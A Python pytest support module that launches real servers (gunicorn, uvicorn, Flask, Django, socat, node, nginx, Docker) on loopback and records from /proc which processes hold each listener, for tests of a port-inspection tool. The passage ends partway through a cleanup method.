"""The real servers people run, started on loopback for the role tests.

Each `start_*` function runs one server the way its users do (gunicorn, uvicorn, Flask's and
Django's reloaders, a shell-loop supervisor, a server left behind by a script, socat, a node
cluster, nginx, Docker), on a free port of 127.0.0.1, in its own process group (its own
session), with every file in a temp dir. It returns once the port accepts connections and
every process that should hold the listener holds it, as a `Running` that says which PIDs
hold the listener (read from /proc, not from the code under test) and which one an expert
would stop. `Running.stop()` removes everything it started: its process group, its
container, its temp dir; it never signals anything else.

What each server's process tree looks like, and what a SIGTERM to each PID does, was checked
by hand: /work/notes/servers.md (and domain.md 7).

A missing component (nginx not installed, dockerd not running) skips the test, except under
CI=true, where it fails: .ci/services installs and starts them, so CI must run them all.
"""

from __future__ import annotations

import contextlib
import http.client
import io
import json
import os
import pwd
import shlex
import shutil
import signal
import socket
import subprocess
import sys
import tarfile
import tempfile
import textwrap
import time
import uuid
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Literal, NoReturn

import pytest

from support import quiet_port

LOOPBACK = "127.0.0.1"
LOOPBACK6 = "::1"
# Typical start-up is 0.02-1.2 s (servers.md); the margin is for 2 cores shared with other
# test runs. A server that is not ready by then is broken, not slow.
READY_TIMEOUT = 30.0
DOCKER_IMAGE = "portscope-test/busybox"
DOCKER_LABEL = "portscope.test"  # on every container we create, so leftovers can be found
# The venv's console scripts (gunicorn, uvicorn, flask, django-admin): run by name, as users
# do, so argv[0] and comm are the script's and not "python".
VENV_BIN = Path(sys.executable).parent


@dataclass(frozen=True)
class Running:
    """One real server, ready. Every PID here was read from /proc when it became ready."""

    name: str
    port: int
    proc: subprocess.Popen[bytes] | None  # what we launched (None for Docker: an API call)
    pids_holding: frozenset[int]  # every process holding a listening socket on the port
    root_pid: int  # what an expert would stop (for Docker: the container's main process)
    how: Literal["signal", "docker"]  # "docker": stop the container, never signal a PID
    container: str | None = None  # the container's name, for how == "docker"
    group_pids: frozenset[int] = frozenset()  # every live process of its group when ready
    workdir: Path | None = None
    # Sockets the fixture keeps open (socat's client connection): closed by stop().
    clients: tuple[socket.socket, ...] = field(default=(), compare=False, repr=False)
    _stopped: list[bool] = field(default_factory=list, compare=False, repr=False)

    def stop(self) -> None:
        """Remove everything this fixture started; safe to call twice and after the test
        already stopped the server its own way."""
        if self._stopped:
            return
        self._stopped.append(True)
        for client in self.clients:
            client.close()
        if self.container:
            _docker_remove(self.container)
        if self.proc is not None:
            _kill_own_group(self.proc)
        if self.workdir is not None:
            shutil.rmtree(self.workdir, ignore_errors=True)


# ---------------------------------------------------------------------------------------
# What is there (skip locally, fail under CI)


def missing(reason: str) -> NoReturn:
    """A component this scenario needs is not there: skip, but fail under CI=true, whose
    .ci/services installs everything, so a skip there would hide a broken install."""
    if os.environ.get("CI") == "true":
        pytest.fail(f"CI must run this: {reason}", pytrace=False)
    pytest.skip(reason)


def _tool(name: str, *also: str) -> str:
    for candidate in (str(VENV_BIN / name), shutil.which(name), *also):
        if candidate and os.access(candidate, os.X_OK):
            return candidate
    missing(f"{name} is not installed")


def _trusted_tool(name: str) -> str:
    """A tool portscope will ask as root: a root-owned file in root-only directories
    (interfaces.trusted_file), so the venv's copy only when the checkout is in such a place,
    else the system's (Debian's package, which .ci/services installs)."""
    from portscope.core.roles.interfaces import trusted_file

    candidates = [str(VENV_BIN / name), shutil.which(name), f"/usr/bin/{name}"]
    for candidate in candidates:
        if candidate and os.access(candidate, os.X_OK) and (
            os.geteuid() != 0 or trusted_file(candidate)
        ):
            return candidate
    missing(f"{name} is not installed where root may run it (a root-only directory)")


# ---------------------------------------------------------------------------------------
# Reading /proc (independently of portscope's own collector, which the smoke tests check)


def listening_inodes(port: int) -> set[int]:
    """Inodes of the TCP sockets listening on `port`, IPv4 and IPv6."""
    return _tcp_inodes(port, "0A")


def connection_inodes(port: int) -> set[int]:
    """Inodes of ESTABLISHED TCP sockets whose local port is `port` (a server's side)."""
    return _tcp_inodes(port, "01")


def _tcp_inodes(port: int, state: str) -> set[int]:
    found = set()
    suffix = f":{port:04X}"
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        with contextlib.suppress(FileNotFoundError), open(table) as lines:
            next(lines)
            for line in lines:
                # Split only the leading columns: the table can hold thousands of TIME_WAIT
                # lines while other tests run.
                cols = line.split(None, 4)
                if cols[3] == state and cols[1].endswith(suffix):
                    found.add(int(line.split()[9]))
    return found - {0}


def holders(inodes: set[int], pids: Iterable[int] | None = None) -> frozenset[int]:
    """PIDs (among `pids`, default all) with an fd on one of these socket inodes."""
    links = {f"socket:[{inode}]" for inode in inodes}
    found = set()
    for pid in _all_pids() if pids is None else pids:
        try:
            fds = os.listdir(f"/proc/{pid}/fd")
        except OSError:
            continue
        for fd in fds:
            try:
                if os.readlink(f"/proc/{pid}/fd/{fd}") in links:
                    found.add(pid)
                    break
            except OSError:
                continue
    return frozenset(found)


def listener_holders(port: int) -> frozenset[int]:
    return holders(listening_inodes(port)) if listening_inodes(port) else frozenset()


def _all_pids() -> list[int]:
    return [int(name) for name in os.listdir("/proc") if name.isdigit()]


def _stat(pid: int) -> tuple[str, int, int, int] | None:
    """(state, ppid, pgrp, start time in clock ticks) of a process, None if it is gone."""
    try:
        with open(f"/proc/{pid}/stat", "rb") as f:  # bytes: any process names itself
            fields = f.read().rsplit(b")", 1)[1].decode().split()
    except OSError:
        return None
    return fields[0], int(fields[1]), int(fields[2]), int(fields[19])


def ppid(pid: int) -> int | None:
    stat = _stat(pid)
    return stat[1] if stat else None


def is_ancestor_or_self(ancestor: int, pid: int) -> bool:
    seen = 0
    current: int | None = pid
    while current and seen < 64:
        if current == ancestor:
            return True
        current = ppid(current)
        seen += 1
    return False


def argv(pid: int) -> list[str]:
    with open(f"/proc/{pid}/cmdline", "rb") as f:
        return [a.decode(errors="replace") for a in f.read().split(b"\0")[:-1]]


def group_members(pgid: int) -> dict[int, int]:
    """Live (non-zombie) processes of a process group: pid -> start time in ticks."""
    members = {}
    for pid in _all_pids():
        stat = _stat(pid)
        if stat and stat[2] == pgid and stat[0] != "Z":
            members[pid] = stat[3]
    return members


def _kill_own_group(proc: subprocess.Popen[bytes]) -> None:
    """SIGKILL the process group we made (its id is our leader's PID), and only that.

    The kernel does not reuse a PID while a process group still has that id, so while our
    group lives, no other process can have our leader's PID. Hence: our leader unreaped, or
    no process at all with its PID, means the group (if any) is ours. A process with that PID
    that is not our leader means our group is gone and the number was reused (pid_max is
    32768 here): then nothing is signalled.
    """
    pgid = proc.pid
    ours = proc.poll() is None or not os.path.exists(f"/proc/{pgid}")
    if ours:
        with contextlib.suppress(ProcessLookupError, PermissionError):
            os.killpg(pgid, signal.SIGKILL)
    with contextlib.suppress(subprocess.TimeoutExpired):
        proc.wait(timeout=10)
    # Orphans (reparented to PID 1) are reaped by init, not by us: wait until they are gone,
    # so a test that follows sees no leftover of this one.
    deadline = time.monotonic() + 10
    while ours and group_members(pgid) and time.monotonic() < deadline:
        time.sleep(0.02)


# ---------------------------------------------------------------------------------------
# Launching


class _PortTaken(Exception):
    """Someone else bound the port between our check and the server's bind: try another."""


def free_port(*, ipv6: bool = False) -> int:
    """A port free on 127.0.0.1 and ::1 right now, below the ephemeral range: a port the
    kernel hands out is one another suite's next connect() may take as its own local port
    before the server binds it (`ipv6` kept for the callers that need ::1 too)."""
    try:
        return quiet_port()
    except AssertionError as exc:
        raise _PortTaken from exc


def _child_env() -> dict[str, str]:
    """Our environment without what would change how these servers start (a reloader's
    "I am the child" flag, a gunicorn or node option picked up from the outside)."""
    drop = ("WERKZEUG_", "FLASK_", "GUNICORN_", "UVICORN_", "NODE_CLUSTER_")
    env = {k: v for k, v in os.environ.items() if not k.startswith(drop)}
    for key in ("RUN_MAIN", "DJANGO_SETTINGS_MODULE", "NODE_OPTIONS", "PYTHONPATH"):
        env.pop(key, None)
    env["PYTHONDONTWRITEBYTECODE"] = "1"
    env["PYTHONUNBUFFERED"] = "1"
    return env


def _log_tail(workdir: Path) -> str:
    try:
        return (workdir / "server.log").read_text(errors="replace")[-1500:]
    except OSError:
        return "(no log)"


def _launch(
    name: str,
    make_argv: Callable[[int, Path], list[str]],
    *,
    holders_expected: int,
    listeners_expected: int = 1,
    root: Callable[[subprocess.Popen[bytes], frozenset[int], int], int] = lambda p, h, port: p.pid,
    ipv6: bool = False,
    log_ready: str | None = None,
    prepare: Callable[[Path], None] | None = None,
    connect_probe: bool = True,
    after_ready: Callable[[int], tuple[socket.socket, ...]] | None = None,
) -> Running:
    """Start argv in a new session on a free port, wait until it is ready, describe it.

    Ready means: `listeners_expected` listening sockets on the port, held by at least
    `holders_expected` processes of our process group and by nobody else's; the log says
    `log_ready` if given; and a connect() succeeds (we close first, so no TIME_WAIT is left
    on the server's port for the tests that probe it afterwards).
    """
    for _attempt in range(8):
        workdir = Path(tempfile.mkdtemp(prefix=f"portscope-{name}-"))
        if prepare:
            prepare(workdir)
        try:
            port = free_port(ipv6=ipv6)
        except _PortTaken:
            shutil.rmtree(workdir, ignore_errors=True)
            continue
        with open(workdir / "server.log", "wb") as log:
            proc = subprocess.Popen(
                make_argv(port, workdir),
                cwd=workdir,
                env=_child_env(),
                stdin=subprocess.DEVNULL,
                stdout=log,
                stderr=subprocess.STDOUT,
                start_new_session=True,  # its own group: stop() takes its children too
            )
        try:
            held = _wait_ready(
                proc, port, workdir, holders_expected, listeners_expected, log_ready, connect_probe
            )
            clients = after_ready(port) if after_ready else ()
        except _PortTaken:
            _kill_own_group(proc)
            shutil.rmtree(workdir, ignore_errors=True)
            continue
        except TimeoutError:
            log_text = _log_tail(workdir)
            _kill_own_group(proc)
            shutil.rmtree(workdir, ignore_errors=True)
            pytest.fail(f"{name} was not ready in {READY_TIMEOUT} s; its log:\n{log_text}")
        except BaseException:
            _kill_own_group(proc)
            shutil.rmtree(workdir, ignore_errors=True)
            raise
        members = group_members(proc.pid)
        return Running(
            name=name,
            port=port,
            proc=proc,
            pids_holding=held,
            root_pid=root(proc, held, port),
            how="signal",
            group_pids=frozenset(members),
            workdir=workdir,
            clients=clients,
        )
    pytest.fail(f"{name}: no free loopback port after 4 tries")


def _wait_ready(
    proc: subprocess.Popen[bytes],
    port: int,
    workdir: Path,
    holders_expected: int,
    listeners_expected: int,
    log_ready: str | None,
    connect_probe: bool,
) -> frozenset[int]:
    pgid = proc.pid
    deadline = time.monotonic() + READY_TIMEOUT
    while time.monotonic() < deadline:
        # Poll first: a scan that starts after the leader's exit sees every child it forked.
        if proc.poll() is not None and not group_members(pgid):
            if b"in use" in (workdir / "server.log").read_bytes():
                raise _PortTaken
            raise RuntimeError(f"exited before it was ready; its log:\n{_log_tail(workdir)}")
        inodes = listening_inodes(port)
        held_anywhere = holders(inodes) if inodes else frozenset()
        held = held_anywhere & group_members(pgid).keys()  # read again: a child may be new
        if held_anywhere and not held:
            raise _PortTaken  # a listener on our port that none of our processes holds
        if (
            len(inodes) >= listeners_expected
            and len(held) >= holders_expected
            and (log_ready is None or log_ready.encode() in (workdir / "server.log").read_bytes())
            and (not connect_probe or _connects(port))
        ):
            # The truth, from every process on the machine, not just our group.
            return holders(listening_inodes(port))
        time.sleep(0.02)
    raise TimeoutError


def _connects(port: int) -> bool:
    try:
        with socket.create_connection((LOOPBACK, port), timeout=1):
            return True
    except OSError:
        return False


def _write(path: Path, text: str) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(textwrap.dedent(text).lstrip())


# ---------------------------------------------------------------------------------------
# Python servers

# A WSGI app whose /slow?s=N answers after N seconds: a request in flight on demand.
WSGI_APP = """
import time
from urllib.parse import parse_qs

def app(environ, start_response):
    if environ.get("PATH_INFO") == "/slow":
        seconds = float(parse_qs(environ.get("QUERY_STRING", "")).get("s", ["3"])[0])
        time.sleep(seconds)
    start_response("200 OK", [("Content-Type", "text/plain")])
    return [b"ok\\n"]
"""

ASGI_APP = """
async def app(scope, receive, send):
    if scope["type"] != "http":
        return
    await send({"type": "http.response.start", "status": 200,
                "headers": [(b"content-type", b"text/plain")]})
    await send({"type": "http.response.body", "body": b"ok\\n"})
"""

FLASK_APP = """
from flask import Flask

app = Flask(__name__)


@app.get("/")
def index():
    return "ok\\n"
"""


def start_gunicorn(workers: int = 2, graceful_timeout: float = 30) -> Running:
    """gunicorn -w N: the master and its N workers (same argv, comm "gunicorn") all hold the
    listener. SIGTERM the master: it closes its copy at once and idle workers exit; a worker
    with a request in flight keeps the listener until the request ends (up to
    graceful_timeout), then the master exits. A killed worker is respawned."""
    exe = _tool("gunicorn")

    def argv_(port: int, wd: Path) -> list[str]:
        return [
            exe, "-w", str(workers), "-b", f"{LOOPBACK}:{port}",
            # gunicorn >= 27 would otherwise create ~/.gunicorn/gunicorn.ctl
            "--no-control-socket",
            "--graceful-timeout", str(graceful_timeout),
            "--chdir", str(wd / "src"), "wsgi_app:app",
        ]  # fmt: skip

    return _launch(
        "gunicorn",
        argv_,
        holders_expected=1 + workers,
        prepare=lambda wd: _write(wd / "src" / "wsgi_app.py", WSGI_APP),
        log_ready="Booting worker",
    )


def start_uvicorn_workers(workers: int = 2) -> Running:
    """uvicorn --workers N: the master (comm "uvicorn") and N workers started by
    multiprocessing spawn (comm "python3", argv `-c from multiprocessing.spawn import ...`)
    hold the listener; a resource-tracker child holds nothing. SIGTERM the master; a
    killed worker is respawned in ~0.25 s."""
    exe = _tool("uvicorn")

    def argv_(port: int, wd: Path) -> list[str]:
        return [
            exe, "--workers", str(workers), "--host", LOOPBACK, "--port", str(port),
            "--app-dir", str(wd / "src"), "asgi_app:app",
        ]  # fmt: skip

    return _launch(
        "uvicorn-workers",
        argv_,
        holders_expected=1 + workers,
        prepare=lambda wd: _write(wd / "src" / "asgi_app.py", ASGI_APP),
    )


def start_uvicorn_reload() -> Running:
    """uvicorn --reload: the reloader (comm "uvicorn") and the server child (spawned) both
    hold the listener. SIGTERM the reloader; SIGTERM to the child leaves the reloader
    holding a listener that nobody accepts on (connections hang)."""
    exe = _tool("uvicorn")

    def argv_(port: int, wd: Path) -> list[str]:
        src = str(wd / "src")
        return [
            exe, "--reload", "--reload-dir", src, "--host", LOOPBACK, "--port", str(port),
            "--app-dir", src, "asgi_app:app",
        ]  # fmt: skip

    return _launch(
        "uvicorn-reload",
        argv_,
        holders_expected=2,
        prepare=lambda wd: _write(wd / "src" / "asgi_app.py", ASGI_APP),
    )


def _outside_patterns(keep: Path) -> str:
    """fnmatch patterns for every sys.path directory but `keep`: Werkzeug's stat reloader
    watches every .py under sys.path, which includes this repository's app/ (editable
    install), so an edit anywhere in the tree would restart the child mid-test."""
    dirs = {os.path.abspath(p) for p in sys.path if p and os.path.isdir(p)}
    dirs |= {str(Path(__file__).resolve().parent.parent)}
    keep_s = str(keep.resolve())
    return os.pathsep.join(f"{d}/*" for d in sorted(dirs) if not keep_s.startswith(d) and d != "/")


def start_flask_debug() -> Running:
    """flask --debug run (Werkzeug's reloader): the parent (comm "flask") binds, then runs
    the same argv again as a child (comm "python3") that gets the socket by fd number and
    holds it twice. SIGTERM either: the child's exit ends the parent (it restarts only on
    exit code 3), and the parent's SIGTERM handler kills the child."""
    exe = _tool("flask")

    def argv_(port: int, wd: Path) -> list[str]:
        return [
            exe, "--app", "flaskapp", "--debug", "run", "--host", LOOPBACK, "--port", str(port),
            "--exclude-patterns", _outside_patterns(wd),
        ]  # fmt: skip

    return _launch(
        "flask-debug",
        argv_,
        holders_expected=2,
        prepare=lambda wd: _write(wd / "flaskapp.py", FLASK_APP),
    )


def start_django_runserver() -> Running:
    """manage.py runserver: the autoreloader parent and the serving child have the same
    argv (comm "python3"/"python"); only the child holds the listener. SIGTERM either: the
    parent's handler kills the child; the child's exit ends the parent."""
    admin = _tool("django-admin")

    def prepare(wd: Path) -> None:
        subprocess.run(
            [admin, "startproject", "site1", str(wd)], check=True, capture_output=True,
            env=_child_env(),
        )  # fmt: skip

    return _launch(
        "django-runserver",
        lambda port, wd: [sys.executable, "manage.py", "runserver", f"{LOOPBACK}:{port}"],
        holders_expected=1,
        prepare=prepare,
        log_ready="Quit the server",
    )


def start_shell_loop() -> Running:
    """`while true; do server; done` in bash: only the server (bash's child) holds the
    listener; root_pid is bash. SIGTERM the server: bash starts a new one in ~0.4 s.
    SIGTERM bash: bash exits at once and the running server stays (parent 1), holding."""
    py = shlex.quote(sys.executable)

    def argv_(port: int, wd: Path) -> list[str]:
        loop = f"while true; do {py} -m http.server {port} --bind {LOOPBACK}; sleep 0.3; done"
        return ["bash", "-c", loop]

    return _launch("shell-loop", argv_, holders_expected=1)


def start_background_orphan() -> Running:
    """A server started with `&` by a script that exited: its parent is PID 1 (or a
    subreaper), it opened its own socket, and it is the one to stop. Its process group
    is still the script's, which is how stop() reaches it."""
    py = shlex.quote(sys.executable)

    def argv_(port: int, wd: Path) -> list[str]:
        server = f"{py} -m http.server {port} --bind {LOOPBACK}"
        return ["sh", "-c", f"{server} >/dev/null 2>&1 &"]

    return _launch(
        "background-orphan",
        argv_,
        holders_expected=1,
        root=lambda proc, held, port: next(iter(held)),
    )


# ---------------------------------------------------------------------------------------
# Other servers


def _socat_client(port: int) -> tuple[socket.socket, ...]:
    """One open connection, echoed once: socat has forked its per-connection child."""
    client = socket.create_connection((LOOPBACK, port), timeout=10)
    client.sendall(b"ping\n")
    if client.recv(16) != b"ping\n":
        client.close()
        raise RuntimeError("socat did not echo")
    return (client,)


def start_socat_fork() -> Running:
    """socat TCP-LISTEN:P,fork with one client connected: the listener holds the listening
    socket; its child (same argv) holds only the accepted connection, and runs `cat`.
    SIGTERM the listener: the port stops listening but the child and its ESTABLISHED
    socket stay (a plain bind() of the port fails until it ends)."""
    exe = _tool("socat")
    return _launch(
        "socat-fork",
        lambda port, wd: [exe, f"TCP-LISTEN:{port},bind={LOOPBACK},fork,reuseaddr", "EXEC:cat"],
        holders_expected=1,
        connect_probe=False,  # each connection forks a child: only the client below
        after_ready=_socat_client,
    )


NODE_CLUSTER = """
// node cluster.js PORT none|rr: a primary and 2 workers sharing PORT on 127.0.0.1.
const cluster = require('node:cluster');
const http = require('node:http');
const port = Number(process.argv[2]);
cluster.schedulingPolicy = process.argv[3] === 'none' ? cluster.SCHED_NONE : cluster.SCHED_RR;
const respawn = process.argv[4] === 'respawn';
if (cluster.isPrimary) {
  let listening = 0;
  for (let i = 0; i < 2; i++) cluster.fork();
  cluster.on('listening', () => { if (++listening === 2) console.log('ready'); });
  cluster.on('exit', (worker) => {
    console.log(`worker ${worker.process.pid} exited`);
    if (respawn) cluster.fork();
  });
} else {
  http.createServer((req, res) => res.end('ok\\n')).listen(port, '127.0.0.1');
}
"""


def start_node_cluster(policy: Literal["none", "rr"] = "rr", respawn: bool = True) -> Running:
    """node cluster with 2 workers. Round-robin (the default on Linux): only the primary
    holds the listener and hands connections to the workers. SCHED_NONE: the primary and
    both workers hold it. SIGTERM the primary: the workers exit with it. With respawn (as
    PM2 and most cluster apps do), a killed worker is forked again."""
    exe = _tool("node")

    def argv_(port: int, wd: Path) -> list[str]:
        return [exe, str(wd / "src" / "cluster.js"), str(port), policy] + (
            ["respawn"] if respawn else []
        )

    return _launch(
        f"node-cluster-{policy}",
        argv_,
        holders_expected=3 if policy == "none" else 1,
        prepare=lambda wd: _write(wd / "src" / "cluster.js", NODE_CLUSTER),
        log_ready="ready",
    )


NGINX_CONF = """
daemon off;
master_process on;
worker_processes {workers};
{user}
pid {wd}/nginx.pid;
error_log {wd}/error.log;
events {{ worker_connections 64; }}
http {{
    access_log {wd}/access.log;
    client_body_temp_path {wd}/client_body;
    proxy_temp_path {wd}/proxy;
    fastcgi_temp_path {wd}/fastcgi;
    uwsgi_temp_path {wd}/uwsgi;
    scgi_temp_path {wd}/scgi;
    server {{
        listen 127.0.0.1:{port};
        listen [::1]:{port};
        location / {{ return 200 "ok\\n"; }}
    }}
}}
"""


def _nginx_user() -> str:
    if os.geteuid() != 0:
        return ""  # "user" only makes sense for a root master
    for name in ("www-data", "nginx", "nobody"):
        with contextlib.suppress(KeyError):
            pwd.getpwnam(name)
            return f"user {name};"
    return ""


def start_nginx(workers: int = 2) -> Running:
    """nginx (daemon off, so the master is the process we start): the master (root) and its
    workers (www-data) hold both listeners, 127.0.0.1:P and [::1]:P (v6only). SIGTERM or
    SIGQUIT the master; a killed worker is replaced at once. `-e` keeps nginx away from
    /var/log/nginx even before it reads the config."""
    exe = _tool("nginx", "/usr/sbin/nginx")

    def argv_(port: int, wd: Path) -> list[str]:
        conf = NGINX_CONF.format(workers=workers, user=_nginx_user(), wd=wd, port=port)
        (wd / "nginx.conf").write_text(conf)
        return [exe, "-p", str(wd), "-e", str(wd / "error.log"), "-c", str(wd / "nginx.conf")]

    return _launch("nginx", argv_, holders_expected=1 + workers, listeners_expected=2, ipv6=True)


# ---------------------------------------------------------------------------------------
# Docker, through the Engine API on its unix socket (as portscope would talk to it)


def docker_socket() -> str:
    host = os.environ.get("DOCKER_HOST", "")
    return host.removeprefix("unix://") if host.startswith("unix://") else "/var/run/docker.sock"


class _UnixHTTPConnection(http.client.HTTPConnection):
    def __init__(self, path: str, timeout: float) -> None:
        super().__init__("localhost", timeout=timeout)
        self._path = path

    def connect(self) -> None:
        sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        sock.settimeout(self.timeout)
        sock.connect(self._path)
        self.sock = sock


def docker_api(
    method: str, path: str, body: object = None, *, raw: bytes | None = None,
    timeout: float = 60,
) -> tuple[int, bytes]:  # fmt: skip
    """One Engine API call: (HTTP status, body). Raises OSError if dockerd is not there."""
    conn = _UnixHTTPConnection(docker_socket(), timeout)
    try:
        if raw is not None:
            headers = {"Content-Type": "application/x-tar"}
            conn.request(method, path, body=raw, headers=headers)
        else:
            data = json.dumps(body).encode() if body is not None else None
            conn.request(method, path, body=data, headers={"Content-Type": "application/json"})
        response = conn.getresponse()
        return response.status, response.read()
    finally:
        conn.close()


def _docker_remove(name: str) -> None:
    with contextlib.suppress(OSError):
        docker_api("DELETE", f"/containers/{name}?force=true&v=true")


def _ensure_test_image() -> None:
    """The busybox image the tests run: .ci/services builds it; built here too (the same
    `docker import` of a static busybox) so a developer needs only a running dockerd."""
    status, _ = docker_api("GET", f"/images/{DOCKER_IMAGE}/json")
    if status == 200:
        return
    busybox = next((p for p in ("/usr/bin/busybox", "/bin/busybox") if os.path.exists(p)), None)
    if busybox is None:
        missing(f"image {DOCKER_IMAGE} is absent and busybox-static is not installed")
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as tar:
        tar.add(busybox, arcname="bin/busybox")
    status, answer = docker_api(
        "POST", f"/images/create?fromSrc=-&repo={DOCKER_IMAGE}&tag=latest", raw=buf.getvalue()
    )
    if status != 200 or b'"error"' in answer:
        pytest.fail(f"docker import of {DOCKER_IMAGE} failed: {answer[-300:]!r}")


def start_docker(init: bool = True) -> Running:
    """`docker run -d -p 127.0.0.1:P:8080 IMAGE busybox httpd -f -p 8080`, made through the
    Engine API. docker-proxy (a child of dockerd, not ours) holds the listener; the
    container's processes hold nothing on the host. Stop it with the API
    (POST /containers/NAME/stop); killing docker-proxy leaves the container running and
    the port dead. With init (`docker run --init`, the default here) docker-init is the
    container's PID 1 and `docker stop` takes ~0.15 s; without it busybox is PID 1,
    ignores SIGTERM, and `docker stop` waits its full timeout (10 s) before SIGKILL."""
    try:
        status, _ = docker_api("GET", "/_ping", timeout=5)
    except OSError as exc:
        missing(f"dockerd is not reachable on {docker_socket()}: {exc}")
    if status != 200:
        missing(f"dockerd answered /_ping with HTTP {status}")
    _ensure_test_image()
    for _attempt in range(4):
        port = free_port()
        name = f"portscope-test-{os.getpid()}-{uuid.uuid4().hex[:10]}"
        spec: dict[str, Any] = {
            "Image": DOCKER_IMAGE,
            "Cmd": ["/bin/busybox", "httpd", "-f", "-p", "8080"],
            "ExposedPorts": {"8080/tcp": {}},
            "Labels": {DOCKER_LABEL: str(os.getpid())},  # whose run: .ci/services asks
            "HostConfig": {
                "Init": init,
                "PortBindings": {"8080/tcp": [{"HostIp": LOOPBACK, "HostPort": str(port)}]},
            },
        }
        status, answer = docker_api("POST", f"/containers/create?name={name}", spec)
        if status != 201:
            pytest.fail(f"docker create failed: HTTP {status} {answer[-300:]!r}")
        status, answer = docker_api("POST", f"/containers/{name}/start")
        if status not in (204, 304):
            _docker_remove(name)
            if b"already allocated" in answer or b"in use" in answer:
                continue
            pytest.fail(f"docker start failed: HTTP {status} {answer[-300:]!r}")
        try:
            held = _wait_docker_proxy(port)
        except BaseException:
            _docker_remove(name)
            raise
        _, info = docker_api("GET", f"/containers/{name}/json")
        return Running(
            name="docker",
            port=port,
            proc=None,
            pids_holding=held,
            root_pid=int(json.loads(info)["State"]["Pid"]),
            how="docker",
            container=name,
        )
    pytest.fail("docker: no free loopback port after 4 tries")


def is_docker_proxy_for(pid: int, port: int) -> bool:
    args = argv(pid)
    return (
        bool(args)
        and os.path.basename(args[0]) == "docker-proxy"
        and "-host-port" in args
        and args[args.index("-host-port") + 1 : args.index("-host-port") + 2] == [str(port)]
    )


def _wait_docker_proxy(port: int) -> frozenset[int]:
    deadline = time.monotonic() + READY_TIMEOUT
    while time.monotonic() < deadline:
        held = listener_holders(port)
        if held and all(is_docker_proxy_for(pid, port) for pid in held) and _connects(port):
            return held
        time.sleep(0.05)
    raise TimeoutError(f"docker-proxy did not listen on {port} in {READY_TIMEOUT} s")


# ---------------------------------------------------------------------------------------
# Helpers for tests that need a request in flight


def start_request(port: int, path: str = "/slow?s=3") -> socket.socket:
    """Send GET `path` and return the socket unread: a request in flight (gunicorn's /slow
    sleeps ?s= seconds). The caller closes it."""
    client = socket.create_connection((LOOPBACK, port), timeout=30)
    client.sendall(f"GET {path} HTTP/1.0\r\nHost: localhost\r\n\r\n".encode())
    return client


def wait_in_flight(port: int, timeout: float = 10) -> frozenset[int]:
    """Wait until a server process has accepted a connection on `port`: the PIDs holding it."""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        inodes = connection_inodes(port)
        if inodes and (found := holders(inodes)):
            return found
        time.sleep(0.02)
    raise AssertionError(f"no accepted connection on port {port} within {timeout} s")


# ---------------------------------------------------------------------------------------
# Registry and the pytest fixture

SCENARIOS: dict[str, Callable[..., Running]] = {
    "gunicorn": start_gunicorn,
    "uvicorn-workers": start_uvicorn_workers,
    "uvicorn-reload": start_uvicorn_reload,
    "flask-debug": start_flask_debug,
    "django-runserver": start_django_runserver,
    "shell-loop": start_shell_loop,
    "background-orphan": start_background_orphan,
    "socat-fork": start_socat_fork,
    "node-cluster-none": lambda **kw: start_node_cluster("none", **kw),
    "node-cluster-rr": lambda **kw: start_node_cluster("rr", **kw),
    "nginx": start_nginx,
    "docker": start_docker,
}


@pytest.fixture
def real_server() -> Iterator[Callable[..., Running]]:
    """Factory: `real_server("gunicorn", workers=3)` starts a scenario of SCENARIOS and
    returns it ready; everything it started is removed when the test ends."""
    started: list[Running] = []

    def start(name: str, **options: Any) -> Running:
        running = SCENARIOS[name](**options)
        started.append(running)
        return running

    yield start
    for running in reversed(started):
        running.stop()


# ---------------------------------------------------------------------------------------
# Process managers and restarters (issue 17): what runs a server, restarts it or stops it
# with its siblings. Their children leave our process group (supervisord gives each program
# its own group, honcho its own session; pm2's daemon detaches), so these fixtures follow
# the kernel's parent chain instead: ready means the port is held only by descendants of
# what we started, and cleanup kills that tree and every process it had when ready (same
# PID and start time), so an orphan a failed stop leaves behind is removed too.


def descendants(root: int) -> dict[int, int]:
    """`root` and its live (non-zombie) descendants: PID -> start time in clock ticks."""
    stats = {pid: _stat(pid) for pid in _all_pids()}
    children: dict[int, list[int]] = {}
    for pid, st in stats.items():
        if st is not None:
            children.setdefault(st[1], []).append(pid)
    found: dict[int, int] = {}
    stack = [root]
    while stack:
        pid = stack.pop()
        st = stats.get(pid)
        if st is None or pid in found:
            continue
        if st[0] != "Z":
            found[pid] = st[3]
        stack += children.get(pid, [])
    return found


def _same_process(pid: int, started: int) -> bool:
    st = _stat(pid)
    return st is not None and st[3] == started and st[0] != "Z"


def _kill_tree(proc: subprocess.Popen[bytes] | None, known: dict[int, int]) -> None:
    """SIGKILL our leader's tree and every process of `known` still running as itself, until
    none is left (a manager killed mid-restart may have forked once more)."""
    deadline = time.monotonic() + 10
    while time.monotonic() < deadline:
        alive = {p: s for p, s in known.items() if _same_process(p, s)}
        if proc is not None and proc.poll() is None:  # unreaped: its PID is still ours
            alive.update(descendants(proc.pid))
        for pid in list(alive):
            alive.update(descendants(pid))
        if not alive:
            break
        known.update(alive)
        for pid in alive:
            with contextlib.suppress(ProcessLookupError, PermissionError):
                os.kill(pid, signal.SIGKILL)
        time.sleep(0.02)
    if proc is not None:
        with contextlib.suppress(subprocess.TimeoutExpired):
            proc.wait(timeout=10)


@dataclass(frozen=True)
class Managed(Running):
    """A server run by a manager (or a restarter): what the tests need besides Running."""

    manager_pid: int | None = None  # the manager, watcher or master holding no socket
    env: dict[str, str] = field(default_factory=dict)  # what its printed commands need
    others: dict[str, int] = field(default_factory=dict)  # other programs' ports: must survive
    known: dict[int, int] = field(default_factory=dict, compare=False, repr=False)
    cleanup: Callable[[], object] | None = field(default=None, compare=False, repr=False)

    def remember(self) -> None:
        """Add every process of the tree now (a restart since ready) to what stop() kills."""
        for pid, started in list(self.known.items()):
            if _same_process(pid, started):
                self.known.update(descendants(pid))
        if self.proc is not None and self.proc.poll() is None:
            self.known.update(descendants(self.proc.pid))

    def alive(self) -> dict[int, int]:
        """The processes of the tree, as they were when ready, that still run."""
        return {p: s for p, s in self.known.items() if _same_process(p, s)}

    def stop(self) -> None:
        if self._stopped:
            return
        if self.cleanup is not None:
            with contextlib.suppress(OSError, subprocess.SubprocessError):
                self.cleanup()
